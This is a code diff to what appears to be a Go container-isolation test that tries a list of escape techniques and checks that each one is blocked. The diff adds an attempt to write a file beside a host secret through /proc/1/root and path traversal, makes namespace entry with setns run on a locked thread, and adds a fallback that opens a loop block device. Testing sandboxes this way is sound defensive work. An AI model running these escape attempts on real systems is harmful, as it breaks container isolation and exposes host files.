@@ -36,6 +36,9 @@ type attempt struct {
 
 var held = errors.New("held")
 
+// The first thread is the one by which /proc/self tells of this program: it stays as it is.
+func init() { runtime.LockOSThread() }
+
 func main() {
 	secret, command = os.Args[1], os.Args[3]
 	victim, _ = strconv.Atoi(os.Args[2])
@@ -53,6 +56,7 @@ var attempts = []attempt{
 	{"the root of the first process", func() error { return readSecret("/proc/1/root" + secret) }},
 	{"a working directory outside", func() error { return readSecret("/proc/1/cwd/../../../../../.." + secret) }},
 	{"a root within the root", chrootTwice},
+	{"a file written on the machine", writeBeside},
 	{"a file by its number", byHandle},
 	{"a descriptor that was left", leftDescriptor},
 	{"a process of another container in /proc", otherInProc},
@@ -104,6 +108,21 @@ func readSecret(path string) error {
 		return held // the machine's files are there to see
 	}
 	_, err := os.ReadFile(path)
+	return err
+}
+
+// writeBeside would leave a file beside the secret, by each way that could lead there.
+func writeBeside() error {
+	if secret == "" {
+		return held
+	}
+	err := held
+	for _, way := range []string{"", "/../../../../../..", "/proc/1/root", "/proc/1/cwd/../../../../../../.."} {
+		var f *os.File
+		if f, err = os.Create(way + secret + "-escaped"); err == nil {
+			return f.Close()
+		}
+	}
 	return err
 }
 
@@ -261,7 +280,13 @@ func enter(path string) error {
 		return err
 	}
 	defer unix.Close(fd)
-	return notOurs(unix.Setns(fd, 0))
+	done := make(chan error)
+	go func() {
+		runtime.LockOSThread()          // and so the thread ends with the goroutine, wherever it is then
+		_ = unix.Unshare(unix.CLONE_FS) // which entering mounts takes; a filter may know why it must not be
+		done <- notOurs(unix.Setns(fd, 0))
+	}()
+	return <-done
 }
 
 func dir() string {
@@ -281,7 +306,7 @@ func node(kind uint32, major, minor uint32) error {
 	return open(path, unix.O_RDONLY)
 }
 
-// diskNode is the device of the file system that this program is in.
+// diskNode is one of the machine's disks.
 func diskNode() error {
 	text, err := os.ReadFile("/proc/partitions")
 	if err != nil {
@@ -295,7 +320,7 @@ func diskNode() error {
 			}
 		}
 	}
-	return held
+	return node(unix.S_IFBLK, 7, 0) // the first loop device: the machine itself may be kept from its disk
 }
 
 func cloneUser() error {
